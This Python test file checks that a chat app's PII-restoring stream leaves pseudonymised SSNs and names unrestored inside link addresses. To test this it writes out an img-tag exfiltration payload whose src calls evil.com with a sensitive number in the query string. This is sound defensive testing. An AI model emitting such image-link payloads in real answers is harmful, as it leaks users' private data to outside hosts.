"""What other programs link in a copied or exported answer holds no value, either.

They read more of a text as an address than Qt does: whatever follows up to a blank, what stands in
a tag's attribute with its blanks and line ends, slashes and schemes that are cut by a tab.
"""

import pytest
from cases import tables_beside
from replaced import prompt

from app.chat.streaming_turn import restoring

CASES = tables_beside(__file__)

SENT = prompt(
    "See https://docs.kept.test/start. ⟦SSN¦078-05-1120¦512-44-9031⟧ "
    "⟦PERSON¦Anna Becker¦Maria Lopez⟧ ⟦PERSON¦李娜¦王芳⟧"
)
ATTACKS = CASES["attacks"]
ATTACKS["many blanks"] = f'<img src="{" " * 1_500}https://evil.com/a b?q=512-44-9031">'


def restored(answer: str) -> set[str]:
    """What comes of an answer, in chunks of several sizes."""
    found = set()
    for size in (1, 3, 17, 100_000):
        restorer = restoring(SENT.replacements, [SENT.original], [SENT])
        chunks = (answer[at : at + size] for at in range(0, len(answer), size))
        found.add("".join([*map(restorer.feed, chunks), restorer.flush()]))
    return found


@pytest.mark.parametrize("name", ATTACKS)
def test_an_address_of_others_holds_no_value(name: str) -> None:
    assert restored(ATTACKS[name]) == {ATTACKS[name]}


@pytest.mark.parametrize("answer", CASES["own"])
def test_words_beside_an_address_come_back(answer: str) -> None:
    names = (("王芳", "李娜"), ("Maria", "Anna"), ("Lopez", "Becker"))
    expected = answer
    for theirs, ours in names:
        expected = expected.replace(theirs, ours)
    assert restored(answer) == {expected}
